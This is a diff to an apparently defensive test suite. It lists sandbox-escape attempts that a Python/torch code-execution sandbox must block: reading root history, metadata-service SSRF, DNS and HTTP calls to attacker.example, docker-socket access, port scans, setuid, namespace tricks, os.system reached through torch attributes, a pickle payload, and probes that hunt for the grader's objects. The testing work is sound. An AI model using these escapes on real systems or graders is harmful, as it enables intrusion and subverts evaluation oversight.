@@ -64,7 +64,7 @@ ATTACKS = [
        "print('fds: blocked' if not open_fds else f'fds: ESCAPED {open_fds}')", expect=("fds: blocked",)),
     _a("a_root_home", "A", "import os\nattempt('roothome', lambda: os.listdir('/root/.pyenv/..') and open('/root/.bash_history').read())",
        expect=("roothome: blocked",)),
-    _a("a_symlink_plant", "A", "import os\nos.symlink('/work/main/data', '/tmp/link')\nattempt('symlink', lambda: os.listdir('/tmp/link') or 1/0)",
+    _a("a_symlink_plant", "A", "import os\nattempt('symlink', lambda: os.symlink('/work/main/data', '/tmp/link') or os.listdir('/tmp/link') or 1/0)",
        expect=("symlink: blocked",)),
     _a("a_hardlink", "A", "import os, sys\nattempt('hardlink', lambda: os.link(sys.executable, '/tmp/py'))", expect=("hardlink: blocked",)),
     _a("a_metadata_ssrf", "A", "import socket\nattempt('metadata', lambda: socket.create_connection(('169.254.169.254', 80), timeout=1))",
@@ -93,8 +93,8 @@ ATTACKS = [
     _a("c_dns", "C", "import socket\nattempt('dns', lambda: socket.getaddrinfo('attacker.example', 80))", expect=("dns: blocked",)),
     _a("c_ipv6", "C", "import socket\nattempt('ipv6', lambda: socket.socket(socket.AF_INET6, socket.SOCK_STREAM))", expect=("ipv6: blocked",)),
     _a("c_netlink", "C", "import socket\nattempt('netlink', lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0))", expect=("netlink: blocked",)),
-    _a("c_docker_sock", "C", "import socket\ns = socket.socket(socket.AF_UNIX)\nattempt('docker', lambda: s.connect('/var/run/docker.sock'))", expect=("docker: blocked",)),
-    _a("c_abstract", "C", "import socket\ns = socket.socket(socket.AF_UNIX)\nattempt('abstract', lambda: s.connect('\\0/org/freedesktop/DBus'))", expect=("abstract: blocked",)),
+    _a("c_docker_sock", "C", "import socket\nattempt('docker', lambda: socket.socket(socket.AF_UNIX).connect('/var/run/docker.sock'))", expect=("docker: blocked",)),
+    _a("c_abstract", "C", "import socket\nattempt('abstract', lambda: socket.socket(socket.AF_UNIX).connect('\\0/org/freedesktop/DBus'))", expect=("abstract: blocked",)),
     _a("c_localhost_scan", "C", "import socket\nfor port in (22, 80, 5432, 6379):\n    attempt(f'scan{port}', lambda: socket.create_connection(('127.0.0.1', port), timeout=0.2))",
        expect=("scan22: blocked", "scan5432: blocked")),
     _a("c_http", "C", "import urllib.request\nattempt('http', lambda: urllib.request.urlopen('http://attacker.example/x', timeout=1))", expect=("http: blocked",)),
@@ -117,8 +117,8 @@ ATTACKS = [
        "attempt('workers', lambda: list(DataLoader(TensorDataset(torch.zeros(8, 2)), batch_size=2, num_workers=2)))", expect=("workers: blocked",)),
     _a("d_ptrace", "D", "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nexpect_fail('ptrace', lambda: libc.ptrace(16, 1, 0, 0), ok=lambda r: r == -1)",
        expect=("ptrace: blocked",)),
-    _a("d_kill_others", "D", "import os, signal\nhits = []\nfor pid in range(2, 400):\n    try:\n        os.kill(pid, 0); hits.append(pid)\n    except OSError:\n        pass\n"
-       "print(f'pid {os.getpid()} ppid {os.getppid()}')\nprint('kill: blocked' if not hits else f'kill: ESCAPED {hits[:5]}')", expect=("kill: blocked", "pid 1 ppid 0")),
+    _a("d_kill_others", "D", "import os, signal\nhits = []\nfor pid in range(1, 400):\n    try:\n        os.kill(pid, 0) if pid != os.getpid() else None\n        hits.append(pid) if pid != os.getpid() else None\n    except OSError:\n        pass\n"
+       "print(f'pid {os.getpid()} ppid {os.getppid()}')\nprint('kill: blocked' if not hits else f'kill: ESCAPED {hits[:5]}')", expect=("kill: blocked", "pid 2 ppid 0")),
     _a("d_setuid", "D", "import os\nattempt('setuid', lambda: os.setuid(0))", expect=("setuid: blocked",)),
     _a("d_unshare_user", "D", "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nexpect_fail('userns', lambda: libc.unshare(0x10000000), ok=lambda r: r == -1)",
        expect=("userns: blocked",)),
@@ -139,6 +139,17 @@ ATTACKS = [
        "print('tb: blocked' if 'canary' not in str(g) else 'tb: ESCAPED')", expect=("tb: blocked",), lint=True),
     _a("e_gc_hunt_grader", "E", "import gc\nkinds = {type(o).__name__ for o in gc.get_objects()}\n"
        "print('grader: blocked' if not {'Grader', 'Evaluation', 'Challenge'} & kinds else f'grader: ESCAPED')", expect=("grader: blocked",), lint=True),
+    _a("e_torch_os", "E", "import torch\nexpect_fail('torchos', lambda: torch.os.system('true'))", expect=("torchos: blocked",), lint=True),
+    _a("e_serialization_os", "E", "import torch\nexpect_fail('serialos', lambda: torch.serialization.os.system('true'))",
+       expect=("serialos: blocked",), lint=True),
+    _a("e_torch_sys_modules", "E", "import torch\nexpect_fail('sysmodules', lambda: torch.sys.modules['os'].system('true'))",
+       expect=("sysmodules: blocked",), lint=True),
+    _a("e_torch_builtins_exec", "E", "import torch\nns = {}\ntorch.builtins.exec(\"import os\\nr = os.system('true')\", ns)\n"
+       "print('builtinsexec: blocked' if ns['r'] != 0 else 'builtinsexec: ESCAPED')", expect=("builtinsexec: blocked",), lint=True),
+    _a("e_torch_ctypes", "E", "import torch\nlibc = torch.ctypes.CDLL(None, use_errno=True)\nexpect_fail('torchctypes', lambda: libc.syscall(57), ok=lambda r: r == -1)",
+       expect=("torchctypes: blocked",), lint=True),
+    _a("e_torch_importlib", "E", "import torch\nattempt('torchimportlib', lambda: torch.importlib.import_module('subprocess').run(['id'], capture_output=True))",
+       expect=("torchimportlib: blocked",), lint=True),
     # --- F. Torch-specific -------------------------------------------------------------------
     _a("f_torch_load_pickle", "F", "import io, os, torch\nclass Evil:\n    def __reduce__(self):\n        return (os.system, ('true',))\n"
        "buf = io.BytesIO()\ntorch.save(Evil(), buf)\nbuf.seek(0)\nexpect_fail('pickle', lambda: torch.load(buf, weights_only=False))",
@@ -186,7 +197,7 @@ ATTACKS = [
        "print('cache in', os.path.expanduser('~'))", expect=("cache in /tmp",)),
     _a("h_setsid_daemon", "H", "import os\nattempt('daemonize', lambda: (os.setsid(), os.fork()))", expect=("daemonize: blocked",)),
     # --- I. Attacks on the grader (plain-run part; graded ones are in test_attacks.py) -------------
-    _a("i_flock", "I", "import fcntl, sys\nf = open(sys.executable, 'rb')\nattempt('flock', lambda: fcntl.flock(f, fcntl.LOCK_EX | fcntl.LOCK_NB))", expect=("flock: blocked",)),
+    _a("i_flock", "I", "import fcntl, os\nf = open(os.__file__, 'rb')  # a read-only file every job shares\nattempt('flock', lambda: fcntl.flock(f, fcntl.LOCK_EX | fcntl.LOCK_NB))", expect=("flock: blocked",)),
     _a("i_fcntl_lock", "I", "import fcntl\nf = open('/tmp/lock', 'w')\nattempt('setlk', lambda: fcntl.lockf(f, fcntl.LOCK_EX | fcntl.LOCK_NB))", expect=("setlk: blocked",)),
     _a("i_keyring", "I", "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nexpect_fail('keyctl', lambda: libc.syscall(250, 0, -3, 0, 0, 0), ok=lambda r: r == -1)",
        expect=("keyctl: blocked",)),
